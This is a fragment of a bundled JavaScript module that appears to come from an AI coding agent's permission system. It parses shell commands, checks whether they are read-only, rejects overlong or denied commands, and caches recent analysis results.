      cwds: [env.cwd],
      commands: [],
      walkScript: (source, scope) => walkSource(parser, source, state, scope)
    };
    walkSource(parser, command, state, {
      depth: 0,
      inLoop: false,
      paths: [],
      literalStdin: false,
      bindings: NO_BINDINGS
    });
    return {
      ok: true,
      value: { commands: state.commands, readOnly: state.commands.every((c) => c.readOnly) }
    };
  } catch (error) {
    if (error instanceof ShellDenial) return { ok: false, error: error.message };
    return internalError(error);
  }
}
var recent = /* @__PURE__ */ new Map();
var ANALYSIS_MEMO_SIZE = 32;
function analyzeShellCommand(command, env) {
  if (command.length > MAX_COMMAND_LENGTH)
    return Promise.resolve(
      deepFreeze({
        ok: false,
        error: `the command is ${command.length} characters long, more than the ${MAX_COMMAND_LENGTH} this analysis accepts; split it, or put long content in a file with the Write tool`
      })
    );
  const key = JSON.stringify([command, env.cwd, env.home, env.workspaceRoot]);
  const known = recent.get(key);
  if (known !== void 0) {
    recent.delete(key);
    recent.set(key, known);
    return known;
  }
  const analysis = bashParser().then((parser) => deepFreeze(analyzeWith(parser, command, env))).catch((error) => {
    if (recent.get(key) === analysis) recent.delete(key);
    return deepFreeze(internalError(error));
  });
  recent.set(key, analysis);
  if (recent.size > ANALYSIS_MEMO_SIZE) recent.delete(recent.keys().next().value);
  return analysis;
}
export {
  ANALYSIS_MEMO_SIZE,
  analyzeShellCommand
};
